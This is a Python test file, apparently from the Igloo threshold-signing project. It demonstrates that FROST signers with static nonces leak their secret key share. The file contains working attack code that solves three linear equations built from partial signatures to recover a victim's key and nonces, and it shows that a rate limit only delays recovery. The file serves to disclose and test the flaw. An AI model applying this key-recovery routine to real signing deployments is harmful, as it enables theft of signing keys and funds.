"""Proof of the static-nonce share leak (spec §9.1, docs/SECURITY.md), with Igloo's own `sign_session`.

The attacker below uses only public data: the group package, the session packages it sent, and the partial
signatures it received. Its FROST arithmetic is written here independently from the spec (sections 3-4), so
the test also cross-checks that `sign_session` computes z = d' + rho*e' + c*lambda*parity*x as the spec says.
Pure Python: no JS needed.
"""

from __future__ import annotations

import hashlib
import os

import pytest

from node.crypto import curve
from node.crypto.credentials import GroupPackage, SharePackage
from node.crypto.keygen import generate_dealer_pkg_gen
from node.crypto.session import PsigPackage, SessionPackage, create_session, sign_session

N = curve.N
DOMAIN = b"FROST-secp256k1-SHA256-v1"


# --- the attacker's public-data arithmetic (spec 3.1-3.6, 4.4) ---------------------------------------------


def _xmd_to_field(msg: bytes, dst: bytes) -> int:
    """RFC 9380 hash_to_field with expand_message_xmd(SHA-256), L = 48, reduced mod n."""
    dst_prime = dst + bytes([len(dst)])
    b0 = hashlib.sha256(b"\x00" * 64 + msg + (48).to_bytes(2, "big") + b"\x00" + dst_prime).digest()
    b1 = hashlib.sha256(b0 + b"\x01" + dst_prime).digest()
    b2 = hashlib.sha256(bytes(a ^ b for a, b in zip(b0, b1, strict=True)) + b"\x02" + dst_prime).digest()
    return int.from_bytes((b1 + b2)[:48], "big") % N


def _lagrange(idx: int, members: list[int]) -> int:
    num, den = 1, 1
    for j in members:
        if j != idx:
            num = num * j % N
            den = den * (j - idx) % N
    return num * pow(den, -1, N) % N


def _tagged(tag: str, data: bytes) -> bytes:
    th = hashlib.sha256(tag.encode()).digest()
    return hashlib.sha256(th + th + data).digest()


def leak_row(group: GroupPackage, session: SessionPackage, psig: PsigPackage, sighash: str) -> list[int]:
    """One linear equation `a·hidden_sn + b·binder_sn + k·seckey = rhs (mod n)` from one partial signature.

    Everything on the left except the three unknowns is computable from the group and the session.
    """
    assert all(len(v) == 1 for v in session.hashes), "demo sessions carry untweaked sighashes"
    msg = bytes.fromhex(sighash)
    sid = bytes.fromhex(session.sid)
    members = sorted(session.members)
    bind = {
        m: int.from_bytes(hashlib.sha256(sid + m.to_bytes(4, "big") + msg).digest(), "big") % N
        for m in members
    }
    nonces = {}
    for m in members:
        commit = group.commit_for(m)
        nonces[m] = (
            curve.point_add_base(commit.hidden_pn, bind[m]),
            curve.point_add_base(commit.binder_pn, bind[m]),
        )
    q = group.group_pk
    commit_list = b"".join(m.to_bytes(32, "big") + nonces[m][0] + nonces[m][1] for m in members)
    h4 = hashlib.sha256(DOMAIN + b"msg" + msg).digest()
    h5 = hashlib.sha256(DOMAIN + b"com" + commit_list).digest()
    prefix = q + h4 + h5
    rho = {m: _xmd_to_field(prefix + m.to_bytes(32, "big"), DOMAIN + b"rho") for m in members}
    r_point = curve.point_add(
        *(curve.point_add(nonces[m][0], curve.point_mul(nonces[m][1], rho[m])) for m in members)
    )
    c = int.from_bytes(_tagged("BIP0340/challenge", r_point[1:] + q[1:] + msg), "big") % N
    s_r = 1 if curve.has_even_y(r_point) else N - 1
    parity = 1 if curve.has_even_y(q) else N - 1
    i = psig.idx
    z = int(dict(psig.psigs)[sighash], 16)
    # z = s_r*(h + t) + s_r*rho*(b + t) + c*lambda*parity*x
    #   => s_r*h + s_r*rho*b + c*lambda*parity*x = z - s_r*t*(1 + rho)
    rhs = (z - s_r * bind[i] * (1 + rho[i])) % N
    return [s_r, s_r * rho[i] % N, c * _lagrange(i, session.members) * parity % N, rhs]


def solve_mod_n(rows: list[list[int]]) -> list[int]:
    """Gaussian elimination mod n on an augmented k x (k+1) system; raises ValueError when singular."""
    m = [r[:] for r in rows]
    k = len(m)
    for col in range(k):
        pivot = next((r for r in range(col, k) if m[r][col] % N), None)
        if pivot is None:
            raise ValueError("singular system")
        m[col], m[pivot] = m[pivot], m[col]
        inv = pow(m[col][col], -1, N)
        m[col] = [v * inv % N for v in m[col]]
        for r in range(k):
            if r != col and m[r][col]:
                f = m[r][col]
                m[r] = [(a - f * b) % N for a, b in zip(m[r], m[col], strict=True)]
    return [m[r][k] for r in range(k)]


# --- a responder-side partial-signature budget, modelled on the node's SIGN_BUDGET policy ------------------


class PsigBudget:
    """At most `limit` partial signatures per peer per `window` seconds (counted per sighash)."""

    def __init__(self, limit: int, window: int) -> None:
        self.limit = limit
        self.window = window
        self.spent: dict[str, list[int]] = {}

    def allow(self, peer: str, count: int, now: int) -> bool:
        """Charge `count` psigs to `peer` at `now`; False (and nothing charged) if over the budget."""
        recent = [t for t in self.spent.get(peer, []) if t > now - self.window]
        if len(recent) + count > self.limit:
            self.spent[peer] = recent
            return False
        self.spent[peer] = recent + [now] * count
        return True


def _keyset() -> tuple[GroupPackage, list[SharePackage]]:
    return generate_dealer_pkg_gen(2, 3)


def _sighashes(k: int) -> list[list[str]]:
    return [[os.urandom(32).hex()] for _ in range(k)]


def test_one_batched_request_of_three_sighashes_reveals_the_responders_share() -> None:
    group, shares = _keyset()
    attacker, victim = shares[0], shares[2]
    session = create_session(group, [attacker.idx, victim.idx], _sighashes(3), stamp=1_700_000_000)
    pkg = sign_session(group, victim, session)  # what an unmodified responder sends back
    rows = [leak_row(group, session, pkg, vec[0]) for vec in session.hashes]
    hidden, binder, seckey = solve_mod_n(rows)
    assert curve.bytes32(seckey) == victim.seckey
    assert curve.bytes32(hidden) == victim.hidden_sn
    assert curve.bytes32(binder) == victim.binder_sn


def test_three_psigs_from_separate_sessions_also_suffice() -> None:
    group, shares = _keyset()
    attacker, victim = shares[1], shares[0]
    rows = []
    for stamp in (1_700_000_000, 1_700_000_100, 1_700_090_000):
        session = create_session(group, [attacker.idx, victim.idx], _sighashes(1), stamp=stamp)
        pkg = sign_session(group, victim, session)
        rows.append(leak_row(group, session, pkg, session.hashes[0][0]))
    assert curve.bytes32(solve_mod_n(rows)[2]) == victim.seckey


def test_two_psigs_are_consistent_with_every_candidate_key() -> None:
    """Two equations in three unknowns: for ANY guessed seckey there are nonces explaining both psigs."""
    group, shares = _keyset()
    victim = shares[1]
    session = create_session(group, [shares[0].idx, victim.idx], _sighashes(2), stamp=1_700_000_000)
    pkg = sign_session(group, victim, session)
    rows = [leak_row(group, session, pkg, vec[0]) for vec in session.hashes]
    for guess in (int.from_bytes(os.urandom(32), "big") % N, curve.int_from(victim.seckey)):
        reduced = [[a, b, (rhs - k * guess) % N] for a, b, k, rhs in rows]
        hidden, binder = solve_mod_n(reduced)
        for a, b, k, rhs in rows:
            assert (a * hidden + b * binder + k * guess) % N == rhs


def test_a_budget_of_two_per_window_stops_the_single_window_attack_but_not_a_patient_one() -> None:
    group, shares = _keyset()
    attacker, victim = shares[0], shares[1]
    peer = attacker.pubkey_xonly()
    budget = PsigBudget(limit=2, window=3600)
    rows: list[list[int]] = []

    def request(k: int, now: int) -> None:
        session = create_session(group, [attacker.idx, victim.idx], _sighashes(k), stamp=now)
        if budget.allow(peer, len(session.hashes), now):
            pkg = sign_session(group, victim, session)
            rows.extend(leak_row(group, session, pkg, vec[0]) for vec in session.hashes)

    t0 = 1_700_000_000
    request(3, t0)  # the one-shot batched attack: refused whole
    assert rows == []
    request(2, t0 + 1)
    request(1, t0 + 2)  # third psig inside the window: refused
    assert len(rows) == 2
    with pytest.raises(ValueError):
        solve_mod_n([*rows, rows[0]])  # no third independent equation to be had
    request(1, t0 + 3601)  # the window rolls over: the static nonces have not changed
    assert len(rows) == 3
    assert curve.bytes32(solve_mod_n(rows)[2]) == victim.seckey
